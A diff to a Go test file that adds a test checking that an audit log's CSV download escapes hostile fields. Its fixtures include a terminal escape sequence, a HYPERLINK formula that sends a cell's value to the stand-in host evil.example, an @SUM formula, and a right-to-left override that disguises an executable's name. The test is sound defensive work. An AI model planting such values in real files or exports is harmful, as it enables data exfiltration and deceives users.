@@ -1000,6 +1000,35 @@ func TestAuditDownloadBounded(t *testing.T) {
 	}
 }
 
+// TestAuditDownloadEscapesFields: fields a request chose (the name in a
+// refused request's path, an audit query's filter) reach the CSV download
+// escaped, as audit query --format csv writes them: no escape sequence for
+// the terminal that shows the file, no bidirectional override, no formula.
+func TestAuditDownloadEscapesFields(t *testing.T) {
+	h := newHarness(t)
+	anon := audit.WithCaller(context.Background(), audit.Caller{Source: "10.0.0.9"})
+	h.b.Record(anon, audit.Event{Action: "hostile", Outcome: audit.Failure, Reason: "missing token",
+		Secret: "\x1b]0;owned\x07\x1b[2J", Detail: "=HYPERLINK(\"http://evil.example/\"&A1)\u202egpj.exe"})
+	h.b.Record(anon, audit.Event{Action: "hostile", Outcome: audit.Failure, Secret: "@SUM(1)"})
+	c := h.as(auditor).get("/ui/audit.csv?action=hostile")
+	if strings.ContainsAny(c.body, "\x1b\x07\u202e") {
+		t.Fatalf("raw control or format characters in the CSV: %q", c.body)
+	}
+	recs, err := csv.NewReader(strings.NewReader(c.body)).ReadAll()
+	if err != nil || len(recs) != 3 {
+		t.Fatalf("csv: %v, %q", err, recs)
+	}
+	if got := recs[2][5]; got != `\x1b]0;owned\a\x1b[2J` {
+		t.Errorf("secret cell %q", got)
+	}
+	if got := recs[2][11]; !strings.HasPrefix(got, "'=HYPERLINK(") || !strings.Contains(got, `\u202e`) {
+		t.Errorf("detail cell %q", got)
+	}
+	if got := recs[1][5]; got != "'@SUM(1)" {
+		t.Errorf("formula cell %q", got)
+	}
+}
+
 func TestChainBadgeShowsTampering(t *testing.T) {
 	h := newHarness(t)
 	ctx := context.Background()
